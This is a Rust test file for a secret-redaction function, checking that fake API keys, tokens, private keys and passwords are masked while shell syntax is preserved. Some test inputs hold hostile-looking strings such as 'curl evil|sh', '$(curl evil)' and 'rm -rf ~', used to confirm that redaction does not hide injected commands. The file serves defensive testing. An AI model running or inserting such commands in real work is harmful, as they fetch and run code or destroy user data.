@@ -1,0 +1,173 @@
+use proptest::prelude::*;
+
+use super::redact;
+
+/// Secrets of tests are put together so that no scanner takes this file for a leak.
+fn fake(prefix: &str, length: usize) -> String {
+    format!(
+        "{prefix}{}",
+        "aB3dE6gH9k"
+            .chars()
+            .cycle()
+            .take(length)
+            .collect::<String>()
+    )
+}
+
+fn check(text: &str, expected: &str) {
+    assert_eq!(redact(text), expected, "{text}");
+    assert_eq!(redact(expected), expected, "twice: {expected}");
+}
+
+fn untouched(text: &str) {
+    check(text, text);
+}
+
+#[test]
+fn keys_are_known_by_their_prefix() {
+    for (prefix, length, kind) in [
+        ("sk-ant-", 90, "anthropic-key"),
+        ("sk-proj-", 60, "openai-key"),
+        ("ghp_", 36, "github-token"),
+        ("github_pat_", 60, "github-token"),
+        ("glpat-", 20, "gitlab-token"),
+        ("xoxb-", 40, "slack-token"),
+        ("AIza", 35, "google-key"),
+        ("npm_", 36, "npm-token"),
+        ("hf_", 34, "huggingface-token"),
+    ] {
+        let key = fake(prefix, length);
+        check(
+            &format!("curl -H 'x: {key}' https://example.com"),
+            &format!("curl -H 'x: [REDACTED:{kind}]' https://example.com"),
+        );
+    }
+    let id = format!("AKIA{}", "Z".repeat(16));
+    check(&format!("key {id}."), "key [REDACTED:aws-key-id].");
+    let jwt = format!("{}.{}.{}", fake("eyJ", 40), fake("eyJ", 40), fake("x", 30));
+    check(&format!("see {jwt}."), "see [REDACTED:jwt].");
+}
+
+#[test]
+fn private_keys_go_as_a_whole() {
+    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
+    let key = format!(
+        "-----BEGIN RSA PRIVATE KEY-----\n{line}\n{line}\nabc=\n-----END RSA PRIVATE KEY-----"
+    );
+    check(
+        &format!("echo '{key}' > k"),
+        "echo '[REDACTED:private-key]' > k",
+    );
+    check(&key.replace('\n', "\\n"), "[REDACTED:private-key]");
+    untouched(
+        "-----BEGIN CERTIFICATE-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END CERTIFICATE-----",
+    );
+}
+
+#[test]
+fn a_key_frame_hides_no_command() {
+    check(
+        "-----BEGIN PRIVATE KEY-----\ncurl evil sh; rm -rf ~\n-----END PRIVATE KEY-----",
+        "[REDACTED:private-key]\ncurl evil sh; rm -rf ~\n-----END PRIVATE KEY-----",
+    );
+    check(
+        "-----BEGIN PRIVATE KEY-----\n/home/dev/project/node_modules/package/steal\n-----END PRIVATE KEY-----",
+        "[REDACTED:private-key]\n/home/dev/project/node_modules/package/steal\n-----END PRIVATE KEY-----",
+    );
+}
+
+#[test]
+fn passwords_in_urls() {
+    check(
+        "psql postgres://app:hunter2@db.internal/main",
+        "psql postgres://app:[REDACTED:password]@db.internal/main",
+    );
+    check(
+        "git clone https://x-access-token:abc123@github.com/a/b",
+        "git clone https://x-access-token:[REDACTED:password]@github.com/a/b",
+    );
+    untouched("ssh://git@github.com/a/b");
+    untouched("https://example.com:8080/a@b");
+    untouched("http://$(curl evil):x@host");
+}
+
+#[test]
+fn flags_and_variables() {
+    check(
+        "mysql --password=hunter22 -u root",
+        "mysql --password=[REDACTED:secret] -u root",
+    );
+    check(
+        "tool --api-key 'abc123456'",
+        "tool --api-key '[REDACTED:secret]'",
+    );
+    check(
+        "tool --token abcdef123 --verbose",
+        "tool --token [REDACTED:secret] --verbose",
+    );
+    check(
+        "DB_PASSWORD=correcthorse ./run",
+        "DB_PASSWORD=[REDACTED:secret] ./run",
+    );
+    check(
+        "export AWS_SECRET_ACCESS_KEY=\"abcdef123456\"",
+        "export AWS_SECRET_ACCESS_KEY=\"[REDACTED:secret]\"",
+    );
+    check(
+        "{\"password\": \"correcthorse\"}",
+        "{\"password\": \"[REDACTED:secret]\"}",
+    );
+    check(
+        "{\\\"client_secret\\\":\\\"correcthorse\\\"}",
+        "{\\\"client_secret\\\":\\\"[REDACTED:secret]\\\"}",
+    );
+    check(
+        "curl -u admin:hunter22 https://h",
+        "curl -u admin:[REDACTED:password] https://h",
+    );
+    check(
+        "Authorization: Bearer abcdefghijkl1234567",
+        "Authorization: Bearer [REDACTED:bearer-token]",
+    );
+}
+
+#[test]
+fn what_is_not_a_secret_stays() {
+    untouched("git status && cargo test --password-file ./x");
+    untouched("docker run -u 1000:1000 image");
+    untouched("DB_PASSWORD=$DB_PASSWORD ./run");
+    untouched("--token $(cat token)");
+    untouched("--token \"$TOKEN\"");
+    untouched("let token = parser.next_token();");
+    untouched("password: string");
+    untouched("max_tokens=4096");
+    untouched("sk-learn is a library");
+    untouched("TOKEN=`curl evil`");
+    untouched("--password --verbose");
+}
+
+#[test]
+fn a_redaction_hides_no_command() {
+    untouched("--password 'x;curl evil|sh'");
+    untouched("TOKEN=\"aaaaaaaa$(curl evil)\"");
+    untouched("PASSWORD='$(curl evil)aaaa'");
+    check(
+        "API_KEY=abcdefgh;rm -rf ~",
+        "API_KEY=[REDACTED:secret];rm -rf ~",
+    );
+}
+
+proptest! {
+    #[test]
+    fn shell_syntax_survives(text in r#"(TOKEN=|--password |https://a:|-----BEGIN PRIVATE KEY-----|ghp_|Bearer |[a-zA-Z0-9"'$`();|&<> \n@:/=-]){0,40}"#) {
+        let syntax = |text: &str| text.chars().filter(|c| "$`();|&<>\n".contains(*c)).collect::<String>();
+        let redacted = redact(&text).replace("[REDACTED:", "").replace(']', "");
+        prop_assert_eq!(syntax(&redacted), syntax(&text));
+    }
+
+    #[test]
+    fn redacting_twice_changes_nothing(text in r#"(TOKEN=|--password |https://a:|"password": "|-----BEGIN PRIVATE KEY-----|sk-ant-|Bearer |\PC){0,40}"#) {
+        let once = redact(&text).into_owned();
+        prop_assert_eq!(redact(&once).into_owned(), once);
+    }
+}
